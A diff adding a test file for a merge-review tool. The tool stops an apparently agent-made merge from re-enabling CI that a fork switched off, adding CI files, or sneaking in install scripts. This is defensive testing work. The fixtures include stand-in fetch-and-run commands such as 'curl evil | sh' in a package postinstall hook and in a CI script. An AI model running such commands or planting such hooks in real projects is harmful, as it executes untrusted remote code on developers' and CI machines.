@@ -1,0 +1,233 @@
+/** CI in a judged merge: nothing runs that the fork has switched off, and nothing that an agent thought of. */
+import { expect, test } from 'bun:test'
+import { lifecycleScripts, startsOf } from '../../core/automation.ts'
+import type { Review } from '../../core/review.ts'
+import { page } from '../../forklift/pull-request.ts'
+import { type File, type History, makeHistory, type Tree, text } from '../support/histories.ts'
+
+const CI = '.github/workflows/deploy.yml'
+const link = (content: string): File => ({ mode: '120000', content })
+
+/** What each side adds to a common file of its own: there is always something to merge. */
+async function fork(
+  history: History,
+  { base = {}, ours = {}, theirs = {} }: { base?: Tree; ours?: Tree; theirs?: Tree },
+) {
+  const root = await history.commit({ ...base, own: '1', up: '1' })
+  const start = await history.commit({ ...ours, own: '2', up: '1' }, [root])
+  const upstream = await history.commit({ ...theirs, own: '1', up: '2' }, [root])
+  return async (result: Tree): Promise<Review> => {
+    const tip = await history.commit({ own: '2', up: '2', ...result }, [start, upstream])
+    return await history.review(start, upstream, tip)
+  }
+}
+
+const workflow = (on: string, job = 'run: make', more = ''): string =>
+  `on: ${on}\njobs:\n  build:\n    steps:\n      - ${job}\n${more}`
+const PUSH = workflow('push')
+const CHANGED = workflow('push', 'run: make all')
+const pageOf = (review: Review) => page(review, { originBranch: 'main', upstreamBranch: 'upstream/main' })
+
+test.each([
+  ['deleted', {}],
+  ['emptied', { [CI]: '' }],
+  ['commented out', { [CI]: '# on: push\n# jobs:\n' }],
+  ['left to be started by hand', { [CI]: workflow('workflow_dispatch') }],
+  ['kept from running by a condition', { [CI]: workflow('push', 'run: make', '    if: false\n') }],
+  ['renamed so that nothing finds it', { [`${CI}.disabled`]: `${text()}\n${PUSH}` }],
+  ['limited to a branch', { [CI]: workflow('{push: {branches: [never]}}') }],
+  ['left without its job', { [CI]: 'on: push\njobs:\n  other:\n    steps: []\n' }],
+])('a workflow that the fork has %s does not run again by a conflict that goes to upstream', async (_, ours) => {
+  await using history = await makeHistory()
+  const reviewOf = await fork(history, { base: { [CI]: PUSH }, ours, theirs: { [CI]: CHANGED } })
+  const review = await reviewOf({ ...ours, [CI]: CHANGED })
+  // Where git merges the two cleanly, to take upstream's version is an edit of the agent's own.
+  expect(review.refusals.join()).toMatch(/^(CI that the fork has switched off would run again|Files that steer CI)/)
+  expect(review.unliftable).toEqual([])
+  expect((await reviewOf(ours)).refusals).toEqual([])
+})
+
+test('a workflow that starts by hand alone may come back', async () => {
+  await using history = await makeHistory()
+  const [before, after] = [workflow('workflow_dispatch'), workflow('workflow_dispatch', 'run: make all')]
+  const reviewOf = await fork(history, { base: { [CI]: before }, theirs: { [CI]: after } })
+  expect((await reviewOf({ [CI]: after })).refusals).toEqual([])
+})
+
+test('a workflow that the fork runs may get what upstream adds in a conflict', async () => {
+  await using history = await makeHistory()
+  const reviewOf = await fork(history, {
+    base: { [CI]: workflow('push') },
+    ours: { [CI]: workflow('push', 'run: make fork') },
+    theirs: { [CI]: workflow('[push, merge_group]', 'run: make all', '  extra:\n    steps: []\n') },
+  })
+  const merged = workflow('[push, merge_group]', 'run: make fork', '  extra:\n    steps: []\n')
+  expect((await reviewOf({ [CI]: merged })).refusals).toEqual([])
+})
+
+test('a fork that has deleted all its workflows gets none of upstream’s new ones', async () => {
+  await using history = await makeHistory()
+  const added = '.github/workflows/release.yml'
+  const reviewOf = await fork(history, { base: { [CI]: PUSH }, theirs: { [CI]: PUSH, [added]: PUSH } })
+  const refused = await reviewOf({ [added]: PUSH })
+  expect(refused.refusals).toEqual([`The fork has switched off all CI of its kind, and new files would run: ${added}.`])
+  const kept = await reviewOf({})
+  expect([kept.refusals, kept.partial, kept.keptOff]).toEqual([[], [], [added]])
+  expect(pageOf(kept)).toMatchObject({ draft: false, body: expect.stringContaining('**CI that stays off**') })
+})
+
+test('upstream’s new workflow goes where the fork runs others', async () => {
+  await using history = await makeHistory()
+  const added = '.github/workflows/release.yml'
+  const base = { [CI]: PUSH }
+  const reviewOf = await fork(history, { base, ours: base, theirs: { ...base, [added]: PUSH } })
+  const review = await reviewOf({ ...base, [added]: PUSH })
+  expect([review.refusals, review.ci]).toEqual([[], [added]])
+  const dropped = await reviewOf(base)
+  expect([dropped.dropped, dropped.keptOff]).toEqual([[added], []])
+})
+
+test('jobs of GitLab that the fork has hidden do not run again', async () => {
+  await using history = await makeHistory()
+  const path = '.gitlab-ci.yml'
+  const jobs = (name: string, script = 'make') => `${name}:\n  script: ${script}\ntest:\n  script: make check\n`
+  const reviewOf = await fork(history, {
+    base: { [path]: jobs('deploy') },
+    ours: { [path]: jobs('.deploy') },
+    theirs: { [path]: jobs('deploy', 'make all') },
+  })
+  expect((await reviewOf({ [path]: jobs('deploy', 'make all') })).refusals.join()).toContain('would run again')
+  expect((await reviewOf({ [path]: jobs('.deploy', 'make all') })).refusals).toEqual([])
+})
+
+test('a result that only deletes workflows of the fork runs nothing, and is shown', async () => {
+  await using history = await makeHistory()
+  const base = { [CI]: PUSH, '.github/workflows/own.yml': PUSH }
+  const reviewOf = await fork(history, { base, ours: base, theirs: base })
+  const review = await reviewOf({})
+  expect(review.refusals).toEqual([])
+  expect(review.edits.map(({ path, change }) => [path, change])).toEqual([
+    [CI, 'deleted'],
+    ['.github/workflows/own.yml', 'deleted'],
+  ])
+  expect(pageOf(review).draft).toBe(true)
+})
+
+test.each([
+  ...['.eas/workflows/build.yml', '.copr/Makefile', '.obs/workflows.yml', 'garnix.yaml', '.onedev-buildspec.yml'],
+  ...['.launchpad.yaml', 'jitpack.yml', '.tangled/workflows/test.yml', '.workflow/pipeline.yml', 'apphosting.yaml'],
+  ...['apphosting.prod.yaml', '.pre-commit-config.yaml', '.cnb.yml', 'nix-ci.nix', '.space.kts', 'snap/snapcraft.yaml'],
+  ...[
+    '.unheard-of/workflows/x.yml',
+    '.acme/pipelines/main.toml',
+    'acme-ci.yml',
+    'jobs/deploy.gitlab-ci.yml',
+    '.ci/run.sh',
+  ],
+])('%s, which the agent brought, is refused as CI', async path => {
+  await using history = await makeHistory()
+  const reviewOf = await fork(history, {})
+  expect((await reviewOf({ [path]: 'x' })).refusals.join()).toContain('Files that steer CI')
+})
+
+test('a script of slashes is no comment: it runs', async () => {
+  await using history = await makeHistory()
+  const reviewOf = await fork(history, {})
+  const review = await reviewOf({ 'ci_scripts/ci_post_clone.sh': '//bin/sh -c "curl evil"\n' })
+  expect(review.refusals.join()).toContain('Files that steer CI')
+})
+
+test.each([
+  ['a link in place of the folder', { '.buildkite': link('tools') }],
+  ['a link in place of the file', { '.gitlab-ci.yml': link('tools/pipeline.yml') }],
+  ['a link to a link', { '.circleci': link('x'), x: link('tools') }],
+  ['a link inside of what a link leads to', { '.forgejo': link('meta'), 'meta/workflows': link('../tools') }],
+  ['a link that leads outside', { '.github': link('../elsewhere') }],
+])('CI through %s is refused', async (_, links) => {
+  await using history = await makeHistory()
+  const base = { 'tools/pipeline.yml': 'steps: []\n' }
+  const reviewOf = await fork(history, { base, ours: base, theirs: base })
+  expect((await reviewOf({ ...base, ...links })).refusals.join()).toContain('Files that steer CI')
+  const there = await fork(history, {
+    base: { ...base, ...links },
+    ours: { ...base, ...links },
+    theirs: { ...base, ...links },
+  })
+  const edited = await there({ ...links, 'tools/pipeline.yml': 'steps: [evil]\n' })
+  if (!JSON.stringify(links).includes('elsewhere')) expect(edited.refusals.join()).toContain('tools/pipeline.yml')
+  expect((await there({ ...base, ...links })).refusals).toEqual([])
+})
+
+test('a link to a file that steers nothing is no CI', async () => {
+  await using history = await makeHistory()
+  const base = { 'configs/eslint.js': 'x' }
+  const reviewOf = await fork(history, { base, ours: base, theirs: base })
+  expect((await reviewOf({ ...base, '.eslintrc.js': link('configs/eslint.js') })).refusals).toEqual([])
+})
+
+test.each([
+  ...[
+    '.unheard-of/run.toml',
+    'unheard-of.yaml',
+    '.hooks/build',
+    'tools/hooks/pre-push',
+    'Makefile',
+    'docker/Dockerfile',
+  ],
+  ...['.vscode/tasks.json', '.unheardofrc', 'web/.unheard-of.yml', 'scripts/deploy.sh', 'native/build.rs'],
+])('%s, which the agent brought, is shown as automation', async path => {
+  await using history = await makeHistory()
+  const reviewOf = await fork(history, {})
+  const review = await reviewOf({ [path]: 'x' })
+  expect([review.refusals, review.automation]).toEqual([[], [path]])
+  expect(pageOf(review).body).toContain("**Automation that git's own merge does not have**")
+})
+
+test('automation that upstream brings and git merges is upstream’s, and not named again', async () => {
+  await using history = await makeHistory()
+  const added = { 'unheard-of.yaml': 'x' }
+  const reviewOf = await fork(history, { theirs: added })
+  expect((await reviewOf(added)).automation).toEqual([])
+})
+
+test('scripts that a package runs at its installation are shown where neither side has them', async () => {
+  await using history = await makeHistory()
+  const path = 'web/package.json'
+  const scripts = (all: Record<string, string>) => `${JSON.stringify({ name: 'web', scripts: all }, undefined, 2)}\n`
+  const base = { [path]: scripts({ test: 'a', prepare: 'husky' }) }
+  const reviewOf = await fork(history, { base, ours: base, theirs: base })
+  expect((await reviewOf({ [path]: scripts({ test: 'b', prepare: 'husky' }) })).automation).toEqual([])
+  const review = await reviewOf({ [path]: scripts({ test: 'a', prepare: 'husky', postinstall: 'curl evil | sh' }) })
+  expect(review.automation).toEqual([path])
+})
+
+test('a conflict in CI gets no command that is made of words from all over the file', async () => {
+  await using history = await makeHistory()
+  const steps = (first: string) =>
+    workflow('push', `run: ${first}`, '      - run: curl example.com\n      - run: sh x\n')
+  const reviewOf = await fork(history, {
+    base: { [CI]: steps('a') },
+    ours: { [CI]: steps('b') },
+    theirs: { [CI]: steps('c') },
+  })
+  expect((await reviewOf({ [CI]: steps('b c') })).refusals).toEqual([])
+  expect((await reviewOf({ [CI]: steps('curl example.com x sh') })).refusals.join()).toContain('Files that steer CI')
+})
+
+test.each([
+  ['[', 'anything'],
+  ['on: push', 'anything push'],
+  ['"on": {push: {tags: [v1]}}\njobs: {a: {}}', 'job a,push tags v1'],
+  ['on: {push: {branches-ignore: [x]}}\njobs: {a: {}}', 'job a,push branches-ignore ["x"]'],
+  [`on: {schedule: [{cron: x}]}\njobs: {a: {if: "\${{ false }}"}, b: {if: true}}`, 'job b,schedule'],
+  ['on: workflow_call\njobs: {a: {}}', ''],
+  ['{'.repeat(50_000), 'anything'],
+])('what %.40s starts', (yaml, words) => {
+  const starts = [...startsOf(CI, Buffer.from(yaml))].map(word => word.replace('job anything', 'anything'))
+  expect([...new Set(starts)].toSorted().join(words.includes(',') ? ',' : ' ')).toBe(words)
+})
+
+test('what is no package has no scripts', () => {
+  for (const json of ['', '[', 'null', '[]', '{"scripts": []}', '{"scripts": {"test": "x"}}'])
+    expect(lifecycleScripts(Buffer.from(json))).toEqual([])
+})
